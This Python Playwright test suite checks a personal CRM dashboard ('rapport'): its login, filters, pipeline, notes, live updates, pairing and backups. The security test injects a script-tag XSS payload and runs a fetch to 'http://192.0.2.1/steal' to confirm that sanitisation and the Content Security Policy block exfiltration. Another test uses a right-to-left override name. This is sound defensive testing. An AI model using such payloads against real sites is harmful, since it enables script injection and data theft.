"""The dashboard in real Chromium against a real `rapport serve` with seeded people.

Every test runs in a signed-in context that records each request and websocket the page opens; the
`browsing` fixture fails the test if any of them goes anywhere but this companion, or the page logs an error.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

from playwright.sync_api import expect

from tests.dashboard.conftest import ARTIFACTS, Browsing, Dashboard
from tests.dashboard.seed import HOSTILE_BIO, HOSTILE_NAME
from tests.e2e.scenario import wait_for

SEEDED = ["Ada Lovelace", "Grace Hopper", "Linus Torvalds", "Margaret Hamilton", "Barbara Liskov", "ken"]


def names(page: Any) -> list[str]:
    return page.locator("table.people tbody .name").all_text_contents()


def test_the_login_link_works_once_in_the_browser(chromium: Any, dashboard: Dashboard) -> None:
    link = dashboard.login_link()
    first, second = chromium.new_context(), chromium.new_context()
    try:
        page = first.new_page()
        page.goto(link)
        expect(page.locator("h1")).to_have_text("People")
        assert page.url == dashboard.base + "/"  # the token left the address bar
        cookie = next(c for c in first.cookies() if c["name"] == dashboard.cookie)
        assert cookie["httpOnly"] and cookie["sameSite"] == "Strict"
        other = second.new_page()
        other.goto(link)
        expect(other.locator(".problem")).to_contain_text("used already")
        assert other.locator("nav").count() == 0 and "Grace" not in other.content()
    finally:
        first.close()
        second.close()


def test_every_page_shows_the_seeded_people_in_light_and_dark(chromium: Any, dashboard: Dashboard) -> None:
    for scheme in ("light", "dark"):
        browsing = Browsing(chromium, dashboard, scheme)
        try:
            page = browsing.open("/")
            assert sorted(names(page)) == sorted([*SEEDED, HOSTILE_NAME])
            grace = page.locator("tr", has_text="Grace Hopper")
            expect(grace).to_contain_text("Direct messages")
            expect(grace).to_contain_text("Customer")
            expect(grace).to_contain_text("Reading: Dune · Wine: Barolo")
            expect(grace).to_contain_text("New York")
            browsing.shot(f"people-{scheme}")

            page = browsing.open("/pipeline")
            for stage, who in ((2, "Grace Hopper"), (3, "Linus Torvalds"), (4, "Margaret Hamilton"), (0, "ken")):
                expect(page.locator(f'.column[data-stage="{stage}"] .card', has_text=who)).to_have_count(1)
            browsing.shot(f"pipeline-{scheme}")

            page = browsing.open("/people/ada")
            expect(page.locator("#person-name")).to_have_text("Ada Lovelace")
            expect(page.locator("#person-bio")).to_have_text("Analytical engines and poetry")
            page.locator("summary", has_text="Profile history").click()
            expect(page.locator("#profile-history")).to_contain_text("followers 1,200 → 1,500")  # followers over time
            link = page.locator(".timeline a", has_text="open on x.com")
            expect(link).to_have_attribute("href", "https://x.com/ada/status/101")
            expect(page.locator(".evidence")).to_contain_text("They replied to your post")
            browsing.shot(f"person-{scheme}")

            page = browsing.open("/people/linus")
            expect(page.locator(".timeline")).to_contain_text("Phone call")
            expect(page.locator(".timeline")).to_contain_text("talked about git")

            page = browsing.open("/insights")
            page.wait_for_function("() => window.Chart && Chart.getChart('chart-weeks')")
            funnel = page.evaluate("() => Chart.getChart('chart-funnel').data.datasets[0].data")
            assert funnel == [1, 3, 1, 1, 1]  # ken; ada, barbara, mallory; grace; linus; margaret
            browsing.shot(f"insights-{scheme}")

            page = browsing.open("/settings")
            expect(page.locator('[data-region="clients"]')).to_contain_text("tests-")
            expect(page.locator("dd", has_text=str(dashboard.data_dir)).first).to_be_visible()
            browsing.shot(f"settings-{scheme}")
        finally:
            browsing.close()
        browsing.check()


def test_search_and_filters_narrow_the_list(browsing: Browsing) -> None:
    page = browsing.open("/")
    filters = page.locator("#people-filters")
    search = page.get_by_label("Search")
    search.fill("barolo")  # a note
    expect(page.locator("table.people tbody tr")).to_have_count(1)
    assert names(page) == ["Grace Hopper"]
    assert "q=barolo" in page.url  # the filters live in the address, so reload and back keep them
    search.fill("kernel")  # a bio
    expect(page.locator("table.people tbody .name")).to_have_text(["Linus Torvalds"])
    search.fill("")
    filters.locator("select[name=stage]").select_option(label="Met in person")
    expect(page.locator("table.people tbody .name")).to_have_text(["Margaret Hamilton"])
    filters.locator("select[name=stage]").select_option(label="Any")
    filters.locator("input[name=location]").fill("bost")
    expect(page.locator("table.people tbody .name")).to_have_text(["Margaret Hamilton"])
    filters.locator("input[name=location]").fill("")
    filters.locator("select[name=tag]").select_option(label="Customer")
    expect(page.locator("table.people tbody .name")).to_have_text(["Grace Hopper"])
    filters.locator("select[name=tag]").select_option(label="Any")
    filters.locator("select[name=last]").select_option(value="never")
    expect(page.locator("table.people tbody .name")).to_have_text(["ken"])
    filters.locator("select[name=last]").select_option(value="")
    filters.locator("select[name=notes]").select_option(value="yes")
    expect(page.locator("table.people tbody .name")).to_have_count(3)  # grace, margaret, ken
    filters.locator("select[name=sort]").select_option(value="name")
    filters.locator("select[name=order]").select_option(value="asc")
    expect(page.locator("table.people tbody .name")).to_have_text(["Grace Hopper", "ken", "Margaret Hamilton"])
    page.reload()
    expect(page.locator("table.people tbody .name")).to_have_text(["Grace Hopper", "ken", "Margaret Hamilton"])
    page.locator("th a.sort", has_text="Name").click()  # the column header turns the order around
    expect(page.locator("table.people tbody .name")).to_have_text(["Margaret Hamilton", "ken", "Grace Hopper"])
    expect(page.locator("th[aria-sort]")).to_have_attribute("aria-sort", "descending")


def test_dragging_a_card_sets_the_stage_with_its_reason(browsing: Browsing, dashboard: Dashboard) -> None:
    page = browsing.open("/pipeline")
    card = page.locator(".card", has_text="Barbara Liskov")
    card.drag_to(page.locator('.column[data-stage="4"]'))
    dialog = page.locator("#move-dialog")
    expect(dialog).to_be_visible()
    expect(page.locator("#move-stage")).to_have_value("4")
    page.locator("#move-reason").fill("Coffee at the conference")
    browsing.shot("pipeline-move-dialog")
    dialog.get_by_role("button", name="Move").click()
    expect(page.locator('.column[data-stage="4"] .card', has_text="Barbara Liskov")).to_have_count(1)
    stage = dashboard.get("/people/barbara").json()["stage"]
    assert stage["current"] == 4 and stage["manual"]["reason"] == "Coffee at the conference"


def test_the_pipeline_works_from_the_keyboard(browsing: Browsing, dashboard: Dashboard) -> None:
    page = browsing.open("/pipeline")
    page.locator(".card", has_text="Ada Lovelace").focus()
    page.keyboard.press("Enter")
    expect(page.locator("#move-dialog")).to_be_visible()
    expect(page.locator("#move-reason")).to_be_focused()
    page.keyboard.type("We talked on the phone")
    page.keyboard.press("Shift+Tab")  # to the stage
    page.keyboard.press("Shift+Tab")
    page.locator("#move-stage").select_option("3")
    page.locator("#move-reason").press("Tab")
    page.keyboard.press("Enter")  # the Move button
    expect(page.locator('.column[data-stage="3"] .card', has_text="Ada Lovelace")).to_have_count(1)
    assert dashboard.get("/people/ada").json()["stage"]["current"] == 3
    # Focus comes back to the card, so the next move needs no mouse either.
    expect(page.locator(".card:focus")).to_have_attribute("data-key", "1001")
    # An empty reason is not accepted.
    page.keyboard.press("Enter")
    page.locator("#move-stage").select_option("1")
    page.locator("#move-form button[value=move]").click()
    expect(page.locator("#move-dialog")).to_be_visible()
    page.keyboard.press("Escape")
    assert dashboard.get("/people/ada").json()["stage"]["current"] == 3


def test_notes_tags_and_logged_events_persist(browsing: Browsing, dashboard: Dashboard) -> None:
    page = browsing.open("/people/ken")
    books = page.get_by_label("Books")
    books.fill("The Unix Programming Environment")
    books.press("Tab")  # leaving the field saves it
    expect(page.locator("#notes-form .saved")).to_have_text("Saved")
    assert dashboard.get("/people/ken").json()["notes"]["books"] == "The Unix Programming Environment"
    page.get_by_label("Sports").fill("")
    page.get_by_label("Next step").fill("Ask about Belle")
    page.get_by_role("button", name="Save notes").click()
    expect(page.locator("#notes-form .saved")).to_have_text("Saved")
    page.get_by_label("Vendor").check()
    expect(page.locator("#tags-form .saved")).to_have_text("Saved")
    page.locator("#log-form select[name=kind]").select_option("meeting")
    # An edit from elsewhere (the overlay) arrives meanwhile: the page updates, the half-filled form stays.
    dashboard.patch("/people/ken", {"notes": {"movies": "WarGames"}})
    expect(page.get_by_label("Movies")).to_have_value("WarGames")
    expect(page.locator("#log-form select[name=kind]")).to_have_value("meeting")
    page.locator("#log-form input[name=place]").fill("Murray Hill")
    page.get_by_role("button", name="Log it").click()
    expect(page.locator(".timeline")).to_contain_text("Murray Hill")
    card = dashboard.get("/people/ken").json()
    assert card["notes"]["sports"] is None and card["next_step"] == "Ask about Belle"
    assert card["tags"] == ["vendor"] and card["stage"]["current"] == 4
    page.reload()
    expect(page.get_by_label("Books")).to_have_value("The Unix Programming Environment")
    expect(page.get_by_label("Vendor")).to_be_checked()


def test_live_updates_arrive_without_a_reload(browsing: Browsing, dashboard: Dashboard) -> None:
    from tests.conftest import batch, tweet

    page = browsing.open("/")
    page.evaluate("() => { window.notReloaded = true; }")
    dashboard.post("/ingest", batch(observed_at="2026-11-21T10:00:00Z", people=[
        {"handle": "zoe", "user_id": "2001", "display_name": "Zoe Live", "location": "Lisbon"}],
        tweets=[tweet("301", "zoe", reply_to=["me"], created_at="2026-11-21T09:00:00Z")]))
    expect(page.locator("table.people tbody tr", has_text="Zoe Live")).to_have_count(1, timeout=1500)

    page = browsing.open("/people/zoe")
    page.evaluate("() => { window.notReloaded = true; }")
    dashboard.patch("/people/zoe", {"notes": {"wine": "Vinho Verde"}})  # the overlay edits
    expect(page.get_by_label("Wine")).to_have_value("Vinho Verde", timeout=1500)
    page.locator("summary", has_text="Stage history").click()  # what the user opened stays open
    dashboard.post("/ingest", batch(dm_conversations=[{"with": ["zoe"], "last_message_at": "2026-11-21T11:00:00Z"}]))
    expect(page.locator('[data-region="stage"] .chip').first).to_have_text("Direct messages", timeout=1500)
    expect(page.locator('[data-region="stage"] details')).to_have_attribute("open", "")
    assert page.evaluate("() => window.notReloaded") is True

    page = browsing.open("/settings")
    import requests

    asked = requests.post(dashboard.url("/pair"), json={"client_name": "Firefox on the laptop"}, timeout=5).json()
    row = page.locator(f'tr[data-code="{asked["code"]}"]')
    expect(row).to_contain_text("Firefox on the laptop", timeout=1500)
    row.get_by_role("button", name="Approve").click()
    expect(page.locator('[data-region="clients"]')).to_contain_text("Firefox on the laptop")
    assert requests.get(dashboard.url(f"/pair/{asked['request_id']}"), timeout=5).json()["state"] == "approved"
    # And one that the user does not recognise: rejected.
    unknown = requests.post(dashboard.url("/pair"), json={"client_name": "Not mine"}, timeout=5).json()
    page.locator(f'tr[data-code="{unknown["code"]}"]').get_by_role("button", name="Reject").click()
    expect(page.locator('[data-region="pending"]')).not_to_contain_text("Not mine")
    assert requests.get(dashboard.url(f"/pair/{unknown['request_id']}"), timeout=5).json()["state"] == "rejected"


def test_hostile_names_and_bios_render_as_text(browsing: Browsing, dashboard: Dashboard) -> None:
    response = browsing.page.goto(dashboard.base + "/people/mallory")
    assert "script-src 'self'" in response.headers["content-security-policy"]
    browsing.wait_live()
    page = browsing.page
    expect(page.locator("#person-name")).to_have_text(HOSTILE_NAME)
    expect(page.locator("#person-bio")).to_have_text(HOSTILE_BIO)
    expect(page.locator(".timeline .tweet")).to_have_text("<script>window.pwned=3</script>")
    assert page.locator("main img, main b, main script").count() == 0
    browsing.shot("hostile")
    for path in ("/", "/pipeline", "/insights"):
        browsing.open(path)
        assert page.locator("main img, main b").count() == 0
    assert page.evaluate("() => window.pwned") is None
    # Even a script that got in could not phone home: the CSP refuses other hosts before any request.
    sent = page.evaluate("() => fetch('http://192.0.2.1/steal').then(() => 'sent', () => 'refused')")
    assert sent == "refused" and not any("192.0.2.1" in url for url in browsing.requests)
    assert all("Content Security Policy" in error for error in browsing.errors)
    browsing.errors.clear()  # the browser's report of that refusal


def test_a_logged_event_can_be_removed_and_the_stage_follows(browsing: Browsing, dashboard: Dashboard) -> None:
    dashboard.post("/people", {"handle": "logged_once"})
    dashboard.post("/people/logged_once/events", {"kind": "call", "at": "2026-11-01", "note": "wrong person"})
    page = browsing.open("/people/logged_once")
    expect(page.locator(".timeline")).to_contain_text("wrong person")
    page.once("dialog", lambda dialog: dialog.accept())
    page.locator(".timeline").get_by_role("button", name="Remove").click()
    expect(page.locator('[data-region="timeline"]')).to_contain_text("No interactions yet")
    assert dashboard.get("/people/logged_once").json()["stage"]["current"] == 0


def test_deleting_a_person_removes_everything_about_them(browsing: Browsing, dashboard: Dashboard) -> None:
    dashboard.post("/people", {"handle": "temp_person", "notes": {"other": "to be deleted"}})
    page = browsing.open("/people/temp_person")
    page.once("dialog", lambda dialog: dialog.accept())
    page.get_by_role("button", name="Delete this person").click()
    page.wait_for_url(dashboard.base + "/")
    wait_for("the person to be gone", lambda: dashboard.get("/people/temp_person").status_code == 404, 5)
    expect(page.locator("table.people")).not_to_contain_text("temp_person")


def test_settings_revoke_back_up_export_and_import(browsing: Browsing, dashboard: Dashboard, tmp_path: Path) -> None:
    from companion.access.tokens import TokenStore

    TokenStore(dashboard.data_dir).create("old laptop")
    page = browsing.open("/settings")
    row = page.locator("tr", has_text="old laptop")
    page.once("dialog", lambda dialog: dialog.accept())
    row.get_by_role("button", name="Revoke").click()
    expect(row).to_contain_text("revoked")
    assert next(c for c in TokenStore(dashboard.data_dir).list() if c["name"] == "old laptop")["revoked_at"]

    page.get_by_role("button", name="Back up now").click()
    expect(page.locator('[data-region="backups"] tbody tr')).to_have_count(1)
    assert len(list((dashboard.data_dir / "backups").glob("rapport-*.json"))) == 1

    with page.expect_download() as download:
        page.get_by_role("link", name="Export everything (JSON)").click()
    exported = tmp_path / "export.json"
    download.value.save_as(exported)
    assert "Grace Hopper" in exported.read_text()
    page.locator("#import-form input[type=file]").set_input_files(str(exported))
    page.get_by_role("button", name="Import", exact=True).click()
    expect(page.locator("#import-form .saved")).to_contain_text("0 people added")


def test_an_empty_companion_says_how_to_start(chromium: Any, tmp_path: Path) -> None:
    data_dir = tmp_path / "empty"
    data_dir.mkdir()
    empty = Dashboard(data_dir).start()
    try:
        landing = chromium.new_page()
        landing.goto(empty.base + "/")
        expect(landing.locator("h1")).to_have_text("Rapport dashboard")
        expect(landing.locator("main")).to_contain_text("rapport dashboard")
        landing.screenshot(path=str(ARTIFACTS / "dashboard-landing.png"), full_page=True)
        landing.close()
        browsing = Browsing(chromium, empty, "dark")
        try:
            for path in ("/", "/pipeline", "/insights"):
                page = browsing.open(path)
                expect(page.locator(".empty")).to_contain_text("Load the extension")
                expect(page.locator(".empty")).to_contain_text("Approve that code in Settings")
            browsing.shot("empty-people")
            page = browsing.open("/settings")
            expect(page.locator('[data-region="pending"]')).to_contain_text("Pair with the companion")
            browsing.shot("empty-settings")
        finally:
            browsing.close()
        browsing.check()
    finally:
        empty.stop()


def test_the_dashboard_works_at_localhost_too(browsing: Browsing, dashboard: Dashboard) -> None:
    link = dashboard.login_link().replace("127.0.0.1", "localhost")
    page = browsing.page
    page.goto(link)
    expect(page.locator("h1")).to_have_text("People")
    page.wait_for_selector('#live[data-state="open"]', timeout=5000)  # ws://localhost:<live>, same cookie rules
    assert any(url.startswith("ws://localhost:") for url in browsing.requests)


def test_a_right_to_left_override_in_a_name_turns_no_sentence_around(browsing: Browsing, dashboard: Dashboard) -> None:
    dashboard.post("/people", {"handle": "rlo_name", "display_name": "\u202eevil name"})
    page = browsing.open("/people/rlo_name")
    sentence = page.locator("p", has_text="and everything about them")
    assert "<bdi>\u202eevil name</bdi>" in sentence.inner_html()
    # Every element is its own isolate, so the override stops where the name does.
    isolated = page.evaluate("""() => [...document.querySelectorAll('#person-name, p bdi, td, .name, .tweet')]
        .map((el) => getComputedStyle(el).unicodeBidi)""")
    assert isolated and set(isolated) == {"isolate"}
    # Laid out left to right after the name, as written (an unisolated override would mirror it).
    first, last = page.evaluate("""() => {
        const p = [...document.querySelectorAll('p')].find((el) => el.textContent.includes('and everything'));
        const range = (word) => { const r = document.createRange(); const walker = document.createTreeWalker(p, 4);
          let node; while ((node = walker.nextNode())) { const at = node.data.indexOf(word);
            if (at >= 0) { r.setStart(node, at); r.setEnd(node, at + word.length);
              const box = r.getBoundingClientRect(); return [Math.round(box.y), box.x]; } } };
        return [range('everything'), range('about')]; }""")
    assert first < last  # on the same line further right, or on a later line
    dashboard.delete("/people/rlo_name")
